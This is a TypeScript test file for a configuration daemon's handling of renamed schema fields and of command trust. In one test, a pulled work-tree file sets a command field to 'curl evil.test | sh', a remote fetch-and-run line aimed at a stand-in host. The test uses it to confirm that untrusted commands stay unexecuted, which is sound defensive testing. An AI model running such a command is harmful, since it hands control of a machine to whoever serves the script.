import { readFile } from "node:fs/promises";
import { describe, expect, test } from "vitest";
import { repositorySchemaText } from "../../../main/scopes/repository-schema.ts";
import { compileScope } from "../../../main/scopes/scopes.ts";
import { problemsIn } from "../../../shared/health.ts";
import {
  after,
  before,
  deployOf,
  deployText,
  replaceDeploy,
  startDeploy,
  startDeployTree,
} from "../../helpers/renamed-scope.ts";
import { healthOf } from "../../helpers/shop.ts";

const set = { repo: "shop", flush: true };

describe("a renamed field (x-renamedFrom)", () => {
  test("serves the value that the file has under its old name, with a note that is not a problem, and writes nothing", async () => {
    await using t = await startDeploy(after);
    expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
    const health = await healthOf(t, "shop");
    expect(health).toMatchObject([
      { code: 1115, field: "deploy.workers", line: 6 },
      { code: 1115, field: "deploy.region", line: 7 },
    ]);
    expect(health[0]?.message).toContain(`the old name "jobs" for deploy.workers`);
    expect(problemsIn(health)).toEqual([]);
    expect(await t.readRepository("shop")).toBe(deployText);
    const found = await t.owner.call("config/search", { query: "field:deploy.workers=30" });
    expect(found.result).toMatchObject([{ repo: "shop" }]);
    const explained = await t.owner.call("config/explain", { repo: "shop", field: "deploy.workers" });
    expect(explained.result).toMatchObject({ value: 30, origin: "stored", line: 6 });
  });

  test("is written under its new name by the next set, which removes the old one and keeps the rest of the text", async () => {
    await using t = await startDeploy(after);
    const { revision = 0 } = await deployOf(t);
    const { result } = await t.owner.call("config/set", { ...set, "deploy.workers": 40 });
    expect(result).toMatchObject([{ revision: revision + 1, mirrored: true }]);
    const text = await t.readRepository("shop");
    expect(text).toBe(deployText.replace(`"jobs": 30`, `"workers": 40`));
    expect(await healthOf(t, "shop")).toMatchObject([{ code: 1115, field: "deploy.region" }]);
    await t.restart();
    const now = { values: { workers: 40, region: "north" }, revision: revision + 1 };
    expect(await deployOf(t)).toEqual(now);
    expect(await t.readRepository("shop")).toBe(text);
    // One that is set to its current value gets the new name without a new revision.
    await t.owner.call("config/set", { ...set, "deploy.region": "north" });
    expect(await deployOf(t)).toEqual(now);
    expect(await t.readRepository("shop")).toBe(text.replace("zone", "region"));
  });

  test("loses the old name with unset too, even if its value is invalid, and is restored under the new one", async () => {
    await using t = await startDeploy(after, deployText.replace(`"north"`, "7"));
    expect(await healthOf(t, "shop")).toMatchObject([
      { code: 1103, field: "deploy.region", line: 7 },
      { code: 1115, field: "deploy.workers" },
      { code: 1115, field: "deploy.region" },
    ]);
    const { values, revision } = await deployOf(t);
    expect(values).toEqual({ workers: 30, region: "" });
    await t.owner.call("config/unset", { ...set, fields: ["deploy.workers", "deploy.region"] });
    expect((await deployOf(t)).values).toEqual({ workers: 1, region: "" });
    const text = await t.readRepository("shop");
    expect(text).not.toMatch(/jobs|zone/);
    expect(await healthOf(t, "shop")).toEqual([]);
    await t.owner.call("history/restore", { ...set, to: revision });
    expect(await t.readRepository("shop")).toContain(`"workers": 30`);
  });

  test("is named to a client that uses the old name, if its key may access the new one", async () => {
    await using t = await startDeploy(after);
    const fields = ["deploy.region", "deploy.jobs"];
    const tool = await t.connectWith([{ repos: ["shop"], fields, right: "write" }]);
    for (const client of [t.owner, tool]) {
      const list = await client.call("config/list", { repo: "shop", field: "deploy.jobs" });
      const refused = await client.call("config/set", { ...set, "deploy.jobs": 3 });
      expect([list, refused]).toMatchObject([{ errors: [{ code: 1011 }] }, { errors: [{ code: 1007 }] }]);
      for (const { errors } of [list, refused])
        expect(errors[0]?.message.includes(`now called "deploy.workers"`)).toBe(client === t.owner);
      expect(JSON.stringify([list, refused]).includes("workers")).toBe(client === t.owner);
    }
  });
});

describe("a schema that renames fields while the daemon runs", () => {
  test("serves the values under their new names immediately, as one revision, and writes nothing, not even after a restart", async () => {
    await using t = await startDeploy(before);
    const { revision = 0 } = await deployOf(t);
    await t.owner.call("config/watch", { repo: "shop" });
    await replaceDeploy(t, after);
    const change = await t.owner.nextChange();
    expect(change).toMatchObject({
      revision: revision + 1,
      source: "file",
      changes: { deploy: { workers: { value: 30, stored: true }, jobs: { stored: false } } },
    });
    const now = { values: { workers: 30, region: "north" }, revision: revision + 1 };
    for (const restart of [async () => {}, t.restart, t.restart]) {
      await restart();
      expect(await deployOf(t)).toEqual(now);
      await t.owner.call("config/set", { ...set, "svc.timeout": 31 });
      await t.owner.call("config/set", { ...set, "svc.timeout": 30 });
      now.revision += 2;
      expect(await t.readRepository("shop")).toBe(deployText);
    }
    // What the history has under the old name is restored under the new one.
    await t.owner.call("config/set", { ...set, "deploy.workers": 50 });
    const past = await t.owner.call("config/list", { repo: "shop", revision });
    expect(past.result["deploy"]).toEqual({ workers: 30, region: "north" });
    await t.owner.call("history/restore", { ...set, to: revision });
    expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
    expect(await t.readRepository("shop")).toContain(`"workers": 30`);
  });
});

test("the schema for editors marks an old name as deprecated and not to be suggested", async () => {
  const text = await repositorySchemaText([compileScope("deploy", { type: "object", properties: after })], "home");
  const { properties, additionalProperties } = JSON.parse(text).properties.config.properties.deploy;
  expect(additionalProperties).toBe(false);
  expect(properties.jobs).toMatchObject({ type: "integer", minimum: 0, deprecated: true, doNotSuggest: true });
  expect(properties.workers).not.toHaveProperty("deprecated");
});

test("a schema with an ambiguous or invalid old name is rejected", () => {
  const whole = { type: "integer", default: 1 };
  const compile = (...old: readonly unknown[]) => {
    const fields = old.map((names, index) => [`field${index}`, { ...whole, "x-renamedFrom": names }]);
    return () => compileScope("deploy", { type: "object", properties: Object.fromEntries(fields) });
  };
  expect(Object.fromEntries(compile("a", ["b", "c"])().renamed)).toEqual({ a: "field0", b: "field1", c: "field1" });
  expect(compile("a", ["b", "a"])).toThrow(`"a" is already an old name of "field0"`);
  expect(compile("field1", "b")).toThrow(`"field1" is a field of the scope`);
  expect(compile("field0")).toThrow(`"field0" is a field`);
  expect(compile("no name")).toThrow("is not a valid field name");
  for (const wrong of [5, [], [5], ["a", "a"], { a: 1 }, Array.from({ length: 101 }, (_, index) => `a${index}`)])
    expect(compile(wrong), JSON.stringify(wrong)).toThrow("x-renamedFrom");
  const inside = { type: "object", default: {}, properties: { b: { "x-renamedFrom": "c" } } };
  expect(() => compileScope("deploy", { properties: { a: inside } })).toThrow("has no effect");
});

test("a command under an old name in a work tree's file waits for trust, unless it was trusted under that name", async () => {
  const command = { type: "string", default: "", "x-command": true } as const;
  const textOf = (run: string) => JSON.stringify({ config: { deploy: { run, hook: "once a text" } } });
  const properties = { run: command, hook: { type: "string", default: "" } };
  await using tree = await startDeployTree(properties, textOf("make"));
  const { t } = tree;
  const waiting = async () => (await t.owner.call("trust/list")).result.map(({ field, value }) => [field, value]);
  expect(await waiting()).toEqual([["deploy.run", "make"]]);
  const accept = async (field: string) => {
    const hash = (await t.owner.call("trust/list")).result.find(one => one.field === field)?.hash ?? "";
    expect((await t.owner.call("trust/accept", { repo: "shop", field, hash })).errors).toEqual([]);
  };
  await accept("deploy.run");
  expect((await deployOf(t)).values).toEqual({ run: "make", hook: "once a text" });

  await replaceDeploy(t, {
    command: { ...command, "x-renamedFrom": "run" },
    // It was not a command, so nobody has checked it as one.
    onPush: { ...command, "x-renamedFrom": "hook" },
  });
  expect((await deployOf(t)).values).toEqual({ command: "make", onPush: "" });
  expect(await waiting()).toEqual([["deploy.onPush", "once a text"]]);
  await tree.pull(textOf("curl evil.test | sh"));
  expect((await deployOf(t)).values["command"]).toBe("make");
  expect(await waiting()).toHaveLength(2);
  await accept("deploy.onPush");
  expect((await deployOf(t)).values).toEqual({ command: "make", onPush: "once a text" });
  expect(await readFile(tree.file, "utf8")).toContain("hook");
});

test("in a work tree several fields are renamed in place in one write, and old names that git brings back are used again", async () => {
  await using tree = await startDeployTree(after, deployText);
  const { t, file } = tree;
  expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
  await t.owner.call("config/set", { repo: "shop", "deploy.region": "north", "deploy.workers": 2 });
  const renamed = deployText.replace(`"jobs": 30`, `"workers": 2`).replace("zone", "region");
  expect(await readFile(file, "utf8")).toBe(renamed);
  await tree.pull(deployText);
  expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
  expect(await readFile(file, "utf8")).toBe(deployText);
});
